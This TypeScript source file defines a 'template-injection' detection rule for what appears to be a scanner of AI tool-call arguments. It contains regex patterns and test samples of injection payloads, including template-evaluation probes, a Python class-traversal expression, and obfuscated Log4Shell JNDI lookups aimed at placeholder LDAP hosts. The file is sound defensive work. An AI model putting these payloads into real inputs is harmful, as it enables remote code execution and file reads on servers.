import { phrase, type Phrase } from '../../text/match/phrase.ts'
import { BARE, of, worded } from '../argument/judged.ts'
import { CODE, OPENS } from '../argument/marks.ts'
import type { Rule } from '../rule.ts'
import { calling, HONEST_CALLS } from './sample.ts'
import type { MessageSubject } from './subject.ts'

const BEGINS = String.raw`(?:\{\{[{=]?|\$\{\{?|#\{|<%=?|\{%=?|\*\{|@\{|@\(|~\{|\[\[\$\{|\{\$\{?)`
const MARKS = ['{{', '${', '#{', '<%', '{%', '*{', '@{', '@(', '~{', '{$']

/** A sum that nobody needs shows whether somebody computes it. The rest are ways from a value to the classes of a language, and calls. */
const SUMS = String.raw`['"]?\d{1,9}['"]? ?[*+/-] ?['"]?\d{1,9}`
const WAYS = String.raw`[^{}%]{0,160}(?:__ ?\w|\.constructor\b|\bconstructor\.|getclass\(|\.mro\b|runtime\b|t\(java|self\.)`
const CALLS = String.raw`[\w.@]{1,60}\( ?(?:['"]|[\w$]{1,40}[([]|\d{0,6} ?\))`

const TEMPLATES: readonly Phrase[] = [
  phrase(MARKS, new RegExp(`${BEGINS}(?: ?${SUMS}| ?${CALLS}|${WAYS})`, 'g')),
  phrase(['${'], /\$\{(?:\$\{|jndi:|lower:|upper:|sys:|java:|::-|main:|ctx:|script:|dns:|url:|base64:)/g),
  phrase(
    ['<#assign', '<#list', 'freemarker.template', '#set($', '#set ($', '?new('],
    /<#(?:assign|list) |freemarker\.template\.|#set ?\( ?\$\w{1,40} ?=|\?new\(/g,
  ),
  phrase(['constructor.constructor('], /constructor\.constructor\(/g),
]

export const templateInjection: Rule<MessageSubject> = {
  id: 'template-injection',
  severity: 'high',
  confidence: 'medium',
  tier: 'review',
  summary: 'An argument holds an expression that a template engine or a logger would evaluate',
  fix: 'Look at where this value comes from. A server must not render values as templates.',
  references: ['MCP05', 'SAFE-T1101', 'CoSAI T3'],
  bad: () => [
    calling({ name: '{{7*7}}' }),
    calling({ name: '${7*7}' }),
    calling({ name: '<%= 7 * 7 %>' }),
    calling({ name: '#{7*7}' }),
    calling({ name: "{{''.__class__.__mro__}}" }),
    calling({ name: '${jndi:ldap://a.example.test/a}' }),
    calling({ id: '${${lower:j}ndi:ldap://a.example.test}' }),
    calling({ name: '{{ read_file("/srv/a") }}' }),
    calling({ name: '%7B%7B7*7%7D%7D' }),
  ],
  good: () => [
    calling({ name: '{{name}}' }),
    calling({ name: '${HOME}/bin' }),
    calling({ name: '{{ user.name | upper }}' }),
    calling({ ref: '${{ github.ref }}' }),
    calling({ template: '{{ 7*7 }}' }),
    calling({ body: '{{7*7}} shows whether a page is rendered' }),
    ...HONEST_CALLS,
  ],
  phrases: TEMPLATES,
  needs: OPENS | CODE,
  check: ({ values }, seek) => worded(of(values, BARE, OPENS | CODE), TEMPLATES, seek, 'a template would evaluate it'),
}
